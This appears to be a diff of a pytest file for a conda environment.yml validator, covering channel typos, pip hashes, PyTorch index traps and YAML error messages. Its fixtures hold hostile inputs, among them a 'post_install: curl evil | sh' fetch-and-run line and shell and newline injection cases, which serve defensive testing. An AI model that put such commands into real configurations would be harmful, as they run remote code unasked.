@@ -23,6 +23,8 @@ HOSTILE = {
     "bad-matchspec.yml": "dependencies[0] (line 3): 'numpy>>=1.0' is not a valid conda spec (MatchSpec:",
     "bidi-override.yml": "invisible character (U+202E)",
     "billion-laughs.yml": "anchors and aliases",
+    "channel-default-typo.yml": "'default' is not an allowed channel (did you mean 'defaults'?)",
+    "channel-key-typo.yml": "line 1: unknown key 'channel' (did you mean 'channels'?)",
     "channel-abs-path.yml": "channels[0] (line 2): '/srv/channel' is a URL or a path",
     "channel-file-path.yml": "'file:///srv/channel' is a URL or a path",
     "channel-not-allowed.yml": "'some-random-user' is not an allowed channel; allowed channels: conda-forge",
@@ -30,20 +32,32 @@ HOSTILE = {
     "comments-only.yml": "file is empty",
     "conda-mapping-not-pip.yml": "only a 'pip:' list may appear here, found 'npm'",
     "custom-tag.yml": "YAML tags are not allowed ('!mytag')",
+    "dependencies-empty.yml": "dependencies (line 3): no dependencies",
     "deep-nesting.yml": "YAML nesting deeper than 10 levels",
     "dependencies-not-list.yml": "dependencies (line 2): must be a list",
     "duplicate-key.yml": "duplicate key 'dependencies'",
     "empty-entry.yml": "dependencies[0] (line 3): expected text, found an empty entry",
     "empty.yml": "file is empty",
+    "int-entry.yml": "dependencies[0] (line 3): '42' is read by YAML as the number 42, not text: quote it",
     "invalid-yaml.yml": "invalid YAML at line 1, column 9",
     "latin1.yml": "file is not UTF-8",
     "long-package-name.yml": "is 150 characters, longer than 100",
     "long-spec.yml": "characters, longer than 200",
+    "many-problems.yml": "channels[0] (line 3): 'my-own-channel' is not an allowed channel",
     "multiple-documents.yml": "invalid YAML at line 2",
     "nested-dependency.yml": "expected text, found a nested list or mapping",
     "newline-injection.yml": "control or invisible character (U+000A)",
+    "number-entry.yml": "dependencies[1] (line 4): '3.10' is read by YAML as the number 3.1, not text: quote it",
     "nul-byte.yml": "NUL bytes",
-    "pip-direct-reference.yml": "direct",
+    "pip-direct-reference.yml": "pip[0] (line 4): 'mypkg @ https://example.com/mypkg-1.0.tar.gz': URLs",
+    "pip-hash-malformed.yml": "dependencies[1].pip[0] (line 5): 'requests==2.31.0 --hash=md5:0123': --hash must be",
+    "pip-hash-partial.yml": "dependencies[1].pip[1] (line 6): has no --hash while pip[0] has one",
+    "pip-hash-unpinned.yml": "dependencies[1].pip[0] (line 5): 'requests>=2': a requirement with --hash needs "
+                             "an exact pin",
+    "pip-pytorch-extra-index.yml": "pip[0] (line 5): '--extra-index-url https://download.pytorch.org/whl/cu121': "
+                                   "PyTorch's own index cannot be used here; install PyTorch with conda instead: "
+                                   "channels pytorch and nvidia, dependencies pytorch, pytorch-cuda=12.1",
+    "pip-torch-local-version.yml": "'torch==2.0.1+cu118': versions with '+cu118' exist only on PyTorch's own index",
     "pip-editable.yml": "pip options",
     "pip-empty-arbitrary-equality.yml": "dependencies[0].pip[0] (line 4): 'requests===' has an operator with no version",
     "pip-extra-index-url.yml": "pip options",
@@ -60,14 +74,22 @@ HOSTILE = {
     "shell-backticks.yml": "shell character '`'",
     "shell-semicolon.yml": "shell character ';'",
     "shell-subst.yml": "shell character '$'",
+    "spec-parenthetical-comment.yml": "dependencies[0] (line 3): 'scipy=1.11.4 (important, later version)': "
+                                      "'(important, later version)' is not a build string",
+    "spec-trailing-dot.yml": "dependencies[0] (line 3): 'numpy=1.26.': the version ends with '.'",
     "spec-channel-not-allowed.yml": "'evil-channel' is not an allowed channel",
     "spec-channel-url.yml": "names its channel by URL or path",
     "top-level-list.yml": "the top level must be a mapping",
     "two-pip-sections.yml": "a second 'pip:' section",
     "typo-dependancies.yml": "unknown key 'dependancies' (did you mean 'dependencies'?)",
-    "unknown-key.yml": "unknown key 'post_install'",
     "utf16.yml": "UTF-16 or UTF-32; save it as UTF-8",
     "variable-bad-name.yml": "'BAD NAME' is not a valid environment variable name",
+    "windows-export.yml": "dependencies (line 7): a Windows export (pywin32, vc, vs2015_runtime exist only for "
+                          "Windows): export the environment with `conda env export --from-history`",
+    "yaml-list-after-key.yml": "invalid YAML at line 1, column 7: a '- item' cannot follow a key on its line",
+    "yaml-missing-colon.yml": "invalid YAML at line 4, column 1: 'dependencies' needs a ':' after it",
+    "yaml-tab-indent.yml": "invalid YAML at line 3, column 1: a tab character: indent with spaces",
+    "yaml-unclosed-bracket.yml": "invalid YAML at line 2, column 15: the '[' opened here is never closed",
 }
 
 
@@ -96,7 +118,7 @@ def test_hostile_file_is_refused_with_one_clear_line(name):
     assert message.startswith(f"{name}: ")
     assert HOSTILE[name] in message
     assert "\n" not in message and "Traceback" not in message
-    assert len(message) < 400
+    assert all(len(line) < 400 and "\n" not in line for line in info.value.details)
     assert elapsed < 1.0  # generous: only guards against pathological blowups (billion laughs)
 
 
@@ -210,9 +232,13 @@ def test_variables_are_kept_as_text_and_part_of_the_key():
     assert "control or invisible" in refusal('dependencies: [numpy]\nvariables:\n  A: "x\\ny"\n')
 
 
-def test_empty_sections_are_empty():
-    spec = parse("name: x\nchannels:\ndependencies:\n")
-    assert spec == EnvironmentSpec()
+def test_empty_sections_are_empty_but_dependencies_are_needed():
+    spec = parse("name: x\nchannels:\nvariables:\ndependencies: [numpy]\n")
+    assert spec == EnvironmentSpec(conda=("numpy",))
+    assert refusal("name: x\nchannels:\ndependencies:\n") == (
+        "env.yml: dependencies (line 3): no dependencies: list the packages under it ('- python=3.11')")
+    assert refusal("name: x\ndependencies: []\n").startswith("env.yml: dependencies (line 2): no dependencies")
+    assert refusal("name: x\n") == "env.yml: no dependencies: add a 'dependencies:' list of packages"
 
 
 def test_control_characters_are_refused_before_matchspec_parses_them():
@@ -272,3 +298,147 @@ def test_policy_reads_traitlets_config():
     config.SpecPolicy.max_dependencies = 1
     policy = SpecPolicy(config=config)
     assert policy.allowed_channels == ["lab"] and policy.max_dependencies == 1
+
+
+# -- issue 14: unknown keys, every problem at once, pip hashes, hints, YAML places, leniencies ---------
+
+
+def test_unknown_top_level_keys_are_ignored_with_a_note_and_typos_are_refused():
+    spec = parse((CORPUS / "good" / "conda-lock-keys.yml").read_bytes())
+    assert spec.notes == ("ignored: platforms, category, extras",)
+    assert spec.key() == parse("channels: [conda-forge]\ndependencies: [python=3.11, numpy>=1.26]\n").key()
+    assert parse("dependencies: [numpy]").notes == ()
+    for typo, meant in (("dependancies", "dependencies"), ("Channels_", "channels"), ("variable", "variables")):
+        message = refusal(f"{typo}: [numpy]\ndependencies: [numpy]\n")
+        assert message.startswith(f"env.yml: line 1: unknown key {typo!r} (did you mean {meant!r}?)")
+
+
+def test_an_ignored_key_is_never_used_and_its_note_is_printable():
+    spec = parse('dependencies: [numpy]\npost_install: curl evil | sh\n"odd\\tkey": 1\n')
+    assert spec.notes == ("ignored: post_install, odd?key",)
+    assert "post_install" not in spec.to_yaml() and "curl" not in spec.normalized_json()
+
+
+def test_every_problem_of_a_file_is_reported_at_once():
+    with pytest.raises(SpecError) as info:
+        SpecPolicy().parse((CORPUS / "hostile" / "many-problems.yml").read_bytes(), source="f.yml")
+    fields = [problem.field for problem in info.value.problems]
+    assert fields == ["channels[0] (line 3)", "channels[1] (line 4)", "channels[2] (line 5)",
+                      "dependencies[1].pip[0] (line 9)"]
+    assert len(info.value.details) == 4 and info.value.omitted == 0
+    assert str(info.value) == "f.yml: 4 problems: " + "; ".join(info.value.details)
+
+
+def test_problems_across_sections_and_entries_are_all_collected():
+    text = ("channels: [evil]\ndependencies:\n  - numpy>>=1\n  - 42\n  - pip:\n    - -e .\n    - ok-pkg\n"
+            "    - ../local\nvariables:\n  BAD NAME: 1\n  GOOD: 2\ndependancies: [x]\n")
+    with pytest.raises(SpecError) as info:
+        SpecPolicy().parse(text)
+    details = info.value.details
+    assert [d.split(":", 1)[0] for d in details] == [
+        "line 12", "channels[0] (line 1)", "dependencies[0] (line 3)", "dependencies[1] (line 4)",
+        "dependencies[2].pip[0] (line 6)", "dependencies[2].pip[2] (line 8)", "variables (line 10)"]
+
+
+def test_the_number_of_problems_is_capped_and_the_rest_counted():
+    text = "dependencies:\n" + "".join(f"  - bad{i}>>=1\n" for i in range(30))
+    with pytest.raises(SpecError) as info:
+        SpecPolicy(max_problems=5).parse(text)
+    assert len(info.value.problems) == 5 and info.value.omitted == 25
+    assert info.value.details[-1] == "... and 25 more problems"
+    with pytest.raises(SpecError) as info:
+        SpecPolicy().parse(text)
+    assert len(info.value.problems) == 20 and info.value.omitted == 10
+
+
+def test_pip_hashes_are_allowed_and_normalised():
+    spec = parse((CORPUS / "good" / "pip-hashes.yml").read_bytes())
+    idna, requests = spec.pip
+    assert requests == ("requests==2.31.0 "
+                        "--hash=sha256:58cd2187c01e70e6e26505bca751777aa9f2ee0b7f4300988b709f44e013003f")
+    assert idna.startswith("idna==3.6 --hash=sha256:9ecd") and idna.count("--hash=") == 2  # sorted
+    upper = parse("dependencies:\n - pip:\n   - Requests==2.31.0 --hash sha256:"
+                  "58CD2187C01E70E6E26505BCA751777AA9F2EE0B7F4300988B709F44E013003F\n")
+    assert upper.pip == (requests,)
+
+
+@pytest.mark.parametrize("line", [
+    "requests==2.31.0 --hash=sha256:abc",  # too short for sha256
+    "requests==2.31.0 --hash=md5:" + "0" * 32,
+    "requests==2.31.0 --hash=sha256:" + "0" * 64 + " --no-deps",
+    "requests==2.31.0 --no-deps --hash=sha256:" + "0" * 64,
+])
+def test_only_well_formed_hashes_pass_and_other_options_stay_refused(line):
+    message = refusal(f"dependencies:\n - pip:\n   - {line}\n")
+    assert "dependencies[0].pip[0] (line 3)" in message
+    assert "--hash must be" in message or "pip options" in message
+
+
+def test_channel_hints_name_the_near_channel_and_the_admin_setting():
+    message = refusal("channels: [my-lab]\ndependencies: [numpy]", allowed_channels=["my-lab2", "conda-forge"])
+    assert "'my-lab' is not an allowed channel (did you mean 'my-lab2'?)" in message
+    assert "c.SpecPolicy.allowed_channels" in message
+    assert "did you mean" not in refusal("channels: [fastai]\ndependencies: [numpy]")
+
+
+@pytest.mark.parametrize("line, conda", [
+    ("torch==2.1.0+cu121", "pytorch-cuda=12.1"),
+    ("torchvision==0.15.2+cpu", "cpuonly"),
+    ("--index-url https://download.pytorch.org/whl/cu118", "pytorch-cuda=11.8"),
+    ("--extra-index-url https://download.pytorch.org/whl/nightly/cu124", "pytorch-cuda=12.4"),
+])
+def test_pytorch_wheel_index_traps_point_to_the_conda_channels(line, conda):
+    message = refusal(f"dependencies:\n - python\n - pip:\n   - {line}\n")
+    assert "PyTorch's own index" in message and "channels pytorch and nvidia" in message and conda in message
+
+
+def test_a_linux_export_with_builds_is_not_taken_for_windows():
+    spec = parse((CORPUS / "good" / "export-with-prefix.yml").read_bytes())
+    assert spec.conda
+    assert "Windows export (m2w64-gcc-libs" in refusal("dependencies: [python=3.9, m2w64-gcc-libs=5.3.0=7]")
+
+
+@pytest.mark.parametrize("entry, refused", [
+    ("3.10", "'3.10' is read by YAML as the number 3.1,"), ("42", "'42' is read by YAML as the number 42,"),
+    ("yes", "'yes' is read by YAML as true/false"), ("1.0", "'1.0' is read by YAML as the number 1.0,"),
+    ("'3.10'", None), ('"42"', None), ("python=3.10", None),
+])
+def test_entries_yaml_reads_as_numbers_must_be_quoted(entry, refused):
+    text = f"channels: [conda-forge]\ndependencies:\n  - {entry}\n"
+    if refused is None:
+        assert parse(text).conda
+    else:
+        assert refused in refusal(text)
+        assert "quote it" in refusal(text)
+
+
+@pytest.mark.parametrize("spec", ["numpy=1.26.", "numpy 1.2 3 4", "scipy=1.11.4=(important", "numpy=1.26=.."])
+def test_build_strings_conda_refuses_are_refused(spec):
+    assert "dependencies[0] (line 1)" in refusal(f"dependencies: [{spec!r}]".replace("'", '"'))
+
+
+@pytest.mark.parametrize("spec", ["numpy=1.26=py39h1234_0", "pytorch=2.0=*cuda*", "libblas=*=*openblas",
+                                  "pkg=1.0=h1+2_0", "numpy=1.26.*"])
+def test_real_build_strings_are_accepted(spec):
+    assert parse(f"dependencies: [{spec!r}]").conda
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("name: x\nchannels:\n  - conda-forge\ndependencies\n  - numpy\n",
+     "invalid YAML at line 4, column 1: 'dependencies' needs a ':' after it"),
+    ("dependencies:\n  - numpy\n  - 'scipy\n",
+     "invalid YAML at line 3, column 5: the quote opened here is never closed"),
+    ("dependencies: {a: 1\n", "invalid YAML at line 1, column 15: the '{' opened here is never closed"),
+    ("dependencies:\n  - numpy\n  pip:\n    - x\n", "invalid YAML at line 3, column 3: this line's indentation"),
+    ("name: a: b\ndependencies: [numpy]\n", "invalid YAML at line 1, column 8: unexpected ':'"),
+])
+def test_yaml_errors_point_at_the_place_to_fix(text, expected):
+    assert refusal(text).startswith(f"env.yml: {expected}")
+
+
+def test_a_hash_after_an_environment_marker_is_kept_apart_from_it():
+    digest = "ab" * 32
+    line = f"Rich[Jupyter]==13.7.0; python_version >= '3.9' --hash=sha256:{digest}"
+    spec = parse(f'dependencies:\n - pip:\n   - "{line}"\n')
+    assert spec.pip == (f'rich[jupyter]==13.7.0; python_version >= "3.9" --hash=sha256:{digest}',)
+    assert parse(spec.to_yaml()) == spec
